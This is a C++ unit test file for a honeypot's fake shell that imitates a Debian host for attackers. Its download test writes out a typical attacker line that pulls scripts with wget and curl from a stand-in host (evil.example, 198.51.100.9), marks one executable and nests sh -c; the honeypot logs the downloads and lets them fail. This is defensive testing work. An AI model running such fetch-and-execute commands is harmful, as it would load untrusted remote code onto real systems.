// The fake shell an attacker gets after a decky login: the answers a discovery script reads,
// pipes and redirections over the fake file system within its quota, downloads reported and
// failed, nothing run; and the grammar and telnet layers underneath it.
#include "decky/shell/fake_shell.h"

#include <gtest/gtest.h>

#include "decky/protocol/shell_command_line.h"
#include "decky/protocol/telnet_input.h"
#include "decky/shell/session_recorder.h"

namespace decnet::decky {
namespace {

class FakeShellTest : public ::testing::Test {
 protected:
  Persona persona_{"web-07", "corp.example", "Debian GNU/Linux 12 (bookworm)"};
  std::vector<std::pair<std::string, Fields>> reports_;
  FakeShell shell_{std::make_shared<FakeTree>(persona_, std::vector<std::string>{"ubuntu"}),
                   persona_, "root",
                   [this](std::string_view e, Fields f) { reports_.emplace_back(e, f); }};
};

TEST_F(FakeShellTest, DiscoveryCommandsAnswerLikeTheHost) {
  EXPECT_EQ(shell_.prompt(), "root@web-07:~# ");
  EXPECT_EQ(shell_.run("whoami"), "root\n");
  EXPECT_EQ(shell_.run("id"), "uid=0(root) gid=0(root) groups=0(root)\n");
  EXPECT_NE(shell_.run("uname -a").find("Linux web-07 6.1.0-28-amd64"), std::string::npos);
  EXPECT_EQ(shell_.run("hostname"), "web-07\n");
  EXPECT_NE(shell_.run("cat /etc/os-release").find("bookworm"), std::string::npos);
  EXPECT_NE(shell_.run("cat /etc/passwd").find("ubuntu:x:1000:1000"), std::string::npos);
  EXPECT_EQ(shell_.run("cat /proc/cpuinfo | grep 'model name' | wc -l"), "2\n");
  EXPECT_EQ(shell_.run("nosuchtool --version"), "-bash: nosuchtool: command not found\n");
  EXPECT_EQ(shell_.run("echo \"$USER at $HOME\""), "root at /root\n");
  EXPECT_EQ(shell_.run("false || echo fallback && echo chained"), "fallback\nchained\n");
  EXPECT_EQ(shell_.run("true && false && echo never"), "");
}

TEST_F(FakeShellTest, TheFileSystemTakesWritesWithinItsQuota) {
  EXPECT_EQ(shell_.run("cd /tmp && pwd"), "/tmp\n");
  EXPECT_EQ(shell_.prompt(), "root@web-07:/tmp# ");
  EXPECT_EQ(shell_.run("echo payload > .x; echo more >> .x; cat /tmp/.x"), "payload\nmore\n");
  EXPECT_NE(shell_.run("ls -la").find(".x"), std::string::npos);
  EXPECT_EQ(shell_.run("rm .x; cat .x"), "cat: .x: No such file or directory\n");
  EXPECT_EQ(shell_.run("cd /nonexistent"), "-bash: cd: /nonexistent: No such file or directory\n");
  const std::string big(60'000, 'a');
  for (const char* name : {"a", "b", "c", "d"}) {
    EXPECT_EQ(shell_.run("echo " + big + " > /tmp/" + name), "") << name;
  }
  EXPECT_NE(shell_.run("echo " + big + " > /tmp/e").find("Permission denied"), std::string::npos);
  ASSERT_FALSE(reports_.empty());
  EXPECT_EQ(reports_.front().first, "file_written");
}

TEST_F(FakeShellTest, DownloadsAreReportedAndFailNothingRuns) {
  const auto out = shell_.run(
      "cd /tmp; wget http://198.51.100.9/bins.sh -O b.sh; curl -s -o c.sh "
      "https://evil.example/c.sh; chmod +x b.sh; sh -c 'sh -c \"sh -c \\\"sh -c id\\\"\"'");
  EXPECT_NE(out.find("unable to resolve host address '198.51.100.9'"), std::string::npos) << out;
  EXPECT_NE(out.find("curl: (28) Failed to connect to evil.example"), std::string::npos) << out;
  ASSERT_EQ(reports_.size(), 2u);
  EXPECT_EQ(reports_[0].first, "download_attempt");
  EXPECT_EQ(reports_[0].second[1],
            (std::pair<std::string, std::string>{"url", "http://198.51.100.9/bins.sh"}));
  EXPECT_EQ(reports_[1].second[1].second, "https://evil.example/c.sh");
  EXPECT_EQ(out.find("uid=0"), std::string::npos);  // nesting past the bound runs nothing
  EXPECT_EQ(shell_.run("sh -c id"), "uid=0(root) gid=0(root) groups=0(root)\n");
  shell_.run("exit");
  EXPECT_TRUE(shell_.exited());
}

TEST(ShellGrammar, QuotesVariablesRedirectionsAndErrors) {
  const auto vars = [](std::string_view name) { return name == "X" ? std::string("v") : ""; };
  const auto p =
      parse_shell_line("a 'b c' \"d $X ${X}\" e\\ f > out 2>/dev/null | g && h || i; j &", vars);
  ASSERT_TRUE(p);
  ASSERT_EQ(p->size(), 4u);
  EXPECT_EQ((*p)[0].commands[0].words, (std::vector<std::string>{"a", "b c", "d v v", "e f"}));
  EXPECT_EQ((*p)[0].commands[0].stdout_to, "out");
  EXPECT_TRUE((*p)[0].commands[0].stderr_discarded);
  EXPECT_EQ((*p)[0].commands[1].words, std::vector<std::string>{"g"});
  EXPECT_EQ((*p)[1].run_if, ShellPipeline::Then::kIfSuccess);
  EXPECT_EQ((*p)[2].run_if, ShellPipeline::Then::kIfFailure);
  EXPECT_EQ((*p)[3].run_if, ShellPipeline::Then::kAlways);
  for (const char* bad : {"echo 'open", "| a", "a &&", "&& a", "a | | b", "a >", "a |"}) {
    EXPECT_FALSE(parse_shell_line(bad, vars)) << bad;
  }
  std::string many;
  for (int i = 0; i < 100; ++i) many += "a;";
  EXPECT_FALSE(parse_shell_line(many, vars));
  EXPECT_TRUE(parse_shell_line("# only a comment", vars)->empty());
}

TEST(TelnetInput, NegotiationIsTakenOutAndTheWindowKept) {
  TelnetInput in;
  std::string data;
  // WILL TTYPE, DO ECHO, NAWS 132x43, IAC IAC, CR NUL, CR LF.
  in.feed(std::string("\xff\xfb\x18\xff\xfd\x01\xff\xfa\x1f\x00\x84\x00\x2b\xff\xf0"
                      "a\xff\xff"
                      "b\r\x00"
                      "c\r\n",
                      24),
          data);
  EXPECT_EQ(data,
            "a\xff"
            "b\rc\r");
  ASSERT_TRUE(in.window_size());
  EXPECT_EQ(*in.window_size(), std::make_pair(132, 43));
  std::string rest;
  in.feed(std::string("\xff\xfa") + std::string(1000, 'x') + "\xff\xf0" + "z", rest);
  EXPECT_EQ(rest, "z");
}

TEST(SessionRecorder, ShardLinesInTheReferencesFormatWithinTheBound) {
  SessionRecorder r("abc123", 120, 40, 400);
  r.input("l");
  r.output("ls\r\n\x1b[0m");
  const auto& shard = r.shard();
  EXPECT_EQ(
      shard.rfind("{\"sid\":\"abc123\",\"hdr\":{\"version\":2,\"width\":120,\"height\":40,", 0), 0u)
      << shard;
  EXPECT_NE(shard.find(",\"ch\":\"i\",\"d\":\"l\"}\n"), std::string::npos) << shard;
  EXPECT_NE(shard.find(",\"ch\":\"o\",\"d\":\"ls\\r\\n\\u001b[0m\"}"), std::string::npos) << shard;
  for (int i = 0; i < 50; ++i) r.input("x");
  EXPECT_TRUE(r.truncated());
  EXPECT_LE(r.shard().size(), 400u);
  EXPECT_EQ(r.bytes(), 1u + 8u + 50u);
}

}  // namespace
}  // namespace decnet::decky
